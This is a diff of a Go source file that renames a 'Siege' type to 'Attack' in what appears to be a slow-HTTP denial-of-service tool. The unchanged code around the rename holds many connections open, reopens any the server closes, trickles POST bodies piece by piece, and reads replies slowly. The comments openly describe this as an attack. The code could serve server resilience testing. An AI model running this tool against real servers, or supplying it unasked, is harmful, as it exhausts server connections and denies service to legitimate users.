@@ -83,8 +83,8 @@ func (c Config) check() (*url.URL, error) {
 	return u, nil
 }
 
-// A Siege is an attack that goes on.
-type Siege struct {
+// An Attack is one that goes on.
+type Attack struct {
 	Config
 	url  *url.URL
 	stop context.CancelFunc
@@ -101,13 +101,13 @@ type Counts struct {
 }
 
 // Begin opens the connections, without waiting for them, and holds them until Stop.
-func Begin(c Config) (*Siege, error) {
+func Begin(c Config) (*Attack, error) {
 	u, err := c.check()
 	if err != nil {
 		return nil, err
 	}
 	ctx, stop := context.WithCancel(context.Background())
-	s := &Siege{Config: c, url: u, stop: stop}
+	s := &Attack{Config: c, url: u, stop: stop}
 	for range c.Connections {
 		s.all.Go(func() { s.keep(ctx) })
 	}
@@ -115,12 +115,12 @@ func Begin(c Config) (*Siege, error) {
 }
 
 // Counts says how the attack stands.
-func (s *Siege) Counts() Counts {
+func (s *Attack) Counts() Counts {
 	return Counts{Held: int(s.held.Load()), Ended: int(s.ended.Load()), Refused: int(s.refused.Load())}
 }
 
 // Stop closes all connections and waits.
-func (s *Siege) Stop() Counts {
+func (s *Attack) Stop() Counts {
 	c := s.Counts()
 	s.stop()
 	s.all.Wait()
@@ -138,7 +138,7 @@ func wait(ctx context.Context, d time.Duration) {
 }
 
 // keep holds one connection, and opens it again when the server has ended it.
-func (s *Siege) keep(ctx context.Context) {
+func (s *Attack) keep(ctx context.Context) {
 	for ctx.Err() == nil {
 		conn, err := s.dial(ctx)
 		if err != nil {
@@ -153,7 +153,7 @@ func (s *Siege) keep(ctx context.Context) {
 	}
 }
 
-func (s *Siege) dial(ctx context.Context) (net.Conn, error) {
+func (s *Attack) dial(ctx context.Context) (net.Conn, error) {
 	d := &net.Dialer{Timeout: patience}
 	if s.Kind != Streams {
 		return d.DialContext(ctx, "tcp", s.url.Host)
@@ -166,7 +166,7 @@ func (s *Siege) dial(ctx context.Context) (net.Conn, error) {
 }
 
 // hold does what the kind of client does until the connection ends.
-func (s *Siege) hold(ctx context.Context, conn net.Conn) {
+func (s *Attack) hold(ctx context.Context, conn net.Conn) {
 	switch s.Kind {
 	case Streams:
 		s.streams(ctx, conn)
@@ -184,7 +184,7 @@ func (s *Siege) hold(ctx context.Context, conn net.Conn) {
 }
 
 // upload sends a POST's head and pieces of its body until the server says anything.
-func (s *Siege) upload(conn net.Conn) {
+func (s *Attack) upload(conn net.Conn) {
 	if _, err := fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n",
 		s.url.RequestURI(), s.url.Host, s.Length); err != nil {
 		return
@@ -209,7 +209,7 @@ func timedOut(err error) bool {
 }
 
 // piece is what comes of a body at once.
-func (s *Siege) piece() []byte {
+func (s *Attack) piece() []byte {
 	p := make([]byte, s.Piece)
 	for i := range p {
 		p[i] = 'x'
@@ -218,7 +218,7 @@ func (s *Siege) piece() []byte {
 }
 
 // read asks for an answer and takes it in pieces until it ends.
-func (s *Siege) read(ctx context.Context, conn net.Conn) {
+func (s *Attack) read(ctx context.Context, conn net.Conn) {
 	if c, ok := conn.(*net.TCPConn); ok {
 		_ = c.SetReadBuffer(receiveBuffer) // with the system's own it is only a little less slow
 	}
